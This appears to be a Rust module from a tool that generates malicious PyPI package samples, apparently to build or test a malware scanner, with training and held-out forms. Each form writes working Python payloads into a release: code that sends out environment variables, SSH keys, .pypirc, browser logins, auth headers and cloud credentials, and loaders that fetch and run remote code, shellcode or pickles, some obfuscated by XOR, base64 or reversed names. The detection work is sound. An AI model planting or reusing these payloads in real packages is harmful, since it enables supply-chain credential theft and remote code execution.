//! Forms for PyPI.

use crate::Form;
use crate::archive::Release;
use crate::draw::Draw;
use crate::pypi::{append, init};
use crate::script::{base64, py_block, py_text};
use trustmill_core::port::scanner::Context;

pub(crate) const FORMS: &[Form] = &[
    Form { name: "pool", held_out: false, put: pool },
    Form { name: "async-post", held_out: true, put: async_post },
    Form { name: "chat-bot", held_out: false, put: chat_bot },
    Form { name: "mail", held_out: true, put: mail },
    Form { name: "file-transfer", held_out: false, put: file_transfer },
    Form { name: "import-hook", held_out: true, put: import_hook },
    Form { name: "data-xor", held_out: false, put: data_xor },
    Form { name: "hidden-builtin", held_out: true, put: hidden_builtin },
    Form { name: "interpreter-text", held_out: false, put: interpreter_text },
    Form { name: "pth-system", held_out: true, put: pth_system },
    Form { name: "git-settings", held_out: false, put: git_settings },
    Form { name: "shellcode", held_out: true, put: shellcode },
    Form { name: "browser", held_out: false, put: browser },
    Form { name: "pickle", held_out: true, put: pickle },
    Form { name: "site-start", held_out: false, put: site_start },
    Form { name: "wrapped-call", held_out: true, put: wrapped_call },
    Form { name: "machine-role", held_out: false, put: machine_role },
    Form { name: "zip-module", held_out: true, put: zip_module },
];

fn block(release: &mut Release, draw: &mut Draw, body: &str) -> Option<()> {
    let code = py_block(body, draw);
    append(release, draw, &code)
}

fn pool(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import json, os, urllib3\nurllib3.PoolManager().request('POST', {url}, body=json.dumps(dict(os.environ)))\n"
    );
    block(release, draw, &body)
}

fn async_post(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    let library = draw.of(&["aiohttp.ClientSession", "httpx.AsyncClient"]);
    let module = library.split('.').next().unwrap_or(library);
    append(
        release,
        draw,
        &format!(
            "\n\nasync def _{name}():\n    import os\n    import {module}\n    async with {library}() as session:\n        await session.post({url}, json={{k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}})\n\n\nimport asyncio as _a, threading as _t\n_t.Thread(target=lambda: _a.run(_{name}()), daemon=True).start()\n"
        ),
    )
}

fn chat_bot(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let body = format!(
        "import platform, getpass, requests\nrequests.get('https://api.telegram.org/bot' + {} + '/sendMessage', params={{'chat_id': '1', 'text': platform.node() + getpass.getuser()}})\n",
        py_text("123456:AAAA", draw)
    );
    block(release, draw, &body)
}

fn mail(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = py_text(draw.host(), draw);
    let body = format!(
        "import os, smtplib\ns = smtplib.SMTP({host}, 587)\ns.sendmail('a@example.com', ['b@example.com'], open(os.path.expanduser('~/.pypirc')).read() + str(dict(os.environ)))\n"
    );
    block(release, draw, &body)
}

fn file_transfer(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = py_text(draw.host(), draw);
    let body = format!(
        "import ftplib, os\nf = ftplib.FTP({host}, 'u', 'p')\nwith open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb') as k:\n    f.storbinary('STOR k', k)\n"
    );
    block(release, draw, &body)
}

fn import_hook(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    append(
        release,
        draw,
        &format!(
            "\n\nimport importlib.abc as _abc, importlib.util as _util, sys as _sys\n\n\nclass _{name}(_abc.MetaPathFinder, _abc.Loader):\n    def find_spec(self, fullname, path, target=None):\n        return _util.spec_from_loader(fullname, self) if fullname.startswith('_{name}') else None\n\n    def exec_module(self, module):\n        import urllib.request\n        source = urllib.request.urlopen({url} + module.__name__).read()\n        exec(source, module.__dict__)\n\n\n_sys.meta_path.append(_{name}())\n"
        ),
    )
}

fn data_xor(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let folder = init(release)?.trim_end_matches("__init__.py").to_owned();
    let (stem, key) = (draw.stem(), 17 + draw.below(90));
    let inner = format!("import os, requests\nrequests.post('{}', data=dict(os.environ))\n", draw.url());
    let bytes: Vec<u8> = inner.bytes().map(|byte| byte ^ u8::try_from(key).unwrap_or(1)).collect();
    release.put(&format!("{folder}{stem}.dat"), bytes);
    let init = format!("{folder}__init__.py");
    release.edit(&init, |text| {
        format!("{text}\n\nimport pkgutil as _p\nexec(bytes(b ^ {key} for b in _p.get_data(__name__, '{stem}.dat')))\n")
    })
}

fn hidden_builtin(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    append(
        release,
        draw,
        &format!(
            "\n\n_b = __import__('built' + 'ins')\n_u = getattr(__import__('url' + 'lib.request', fromlist=['x']), 'urlopen')\ngetattr(_b, 'cexe'[::-1])(getattr(_u({url}), 'read')())\n"
        ),
    )
}

fn interpreter_text(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let inner =
        format!("import os,urllib.request as u;u.urlopen('{}',str(dict(os.environ)).encode())", draw.url());
    append(
        release,
        draw,
        &format!(
            "\n\nimport subprocess as _s, sys as _y\n_s.Popen([_y.executable, '-c', \"import base64;exec(base64.b64decode('{}'))\"], stdout=_s.DEVNULL, stderr=_s.DEVNULL)\n",
            base64(&inner)
        ),
    )
}

fn pth_system(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    release.put(
        &format!("{stem}-nspkg.pth"),
        format!("import os, sys; sys.flags.no_site or os.system('wget -qO- {url} | sh &')\n"),
    );
    Some(())
}

fn git_settings(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let command = draw.of(&[
        "['git', 'config', '--global', '--list']",
        "['gh', 'auth', 'token']",
        "['kubectl', 'config', 'view', '--raw']",
        "['gcloud', 'auth', 'print-access-token']",
    ]);
    let body = format!(
        "import subprocess, requests\nrequests.post({url}, data=subprocess.check_output({command}))\n"
    );
    block(release, draw, &body)
}

fn shellcode(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import ctypes, mmap, urllib.request\ncode = urllib.request.urlopen({url}).read()\nm = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(code)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n"
    );
    block(release, draw, &body)
}

fn browser(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import os, shutil, sqlite3, tempfile, httpx\nsource = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\ncopy = os.path.join(tempfile.mkdtemp(), 'd')\nshutil.copy2(source, copy)\nrows = sqlite3.connect(copy).execute('select origin_url, username_value, password_value from logins').fetchall()\nhttpx.post({url}, content=repr(rows))\n"
    );
    block(release, draw, &body)
}

fn pickle(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let module = draw.of(&["pickle", "dill", "cloudpickle"]);
    let body = format!("import {module}, requests\n{module}.loads(requests.get({url}).content)\n");
    block(release, draw, &body)
}

fn site_start(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let name = draw.of(&["sitecustomize.py", "usercustomize.py"]);
    release.put(
        name,
        format!("import os, socket\ntry:\n    import urllib.request\n    urllib.request.urlopen({url} + '?h=' + socket.gethostname() + '&p=' + os.getcwd(), timeout=2)\nexcept Exception:\n    pass\n"),
    );
    Some(())
}

fn wrapped_call(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    append(
        release,
        draw,
        &format!(
            "\n\ntry:\n    import requests.sessions as _rs\n    _before = _rs.Session.send\n\n    def _send(self, request, **options):\n        value = request.headers.get('Authorization')\n        if value:\n            _before(self, _rs.requests.Request('POST', {url}, data=value).prepare()) if False else __import__('urllib.request').request.urlopen({url}, value.encode())\n        return _before(self, request, **options)\n\n    _rs.Session.send = _send\nexcept ImportError:\n    pass\n"
        ),
    )
}

fn machine_role(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nrole = requests.get(base, timeout=1).text\nrequests.post({url}, data=requests.get(base + role, timeout=1).text)\n"
    );
    block(release, draw, &body)
}

fn zip_module(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import os, sys, tempfile, urllib.request\np = os.path.join(tempfile.mkdtemp(), 'm.zip')\nopen(p, 'wb').write(urllib.request.urlopen({url}).read())\nsys.path.insert(0, p)\n__import__('m')\n"
    );
    block(release, draw, &body)
}
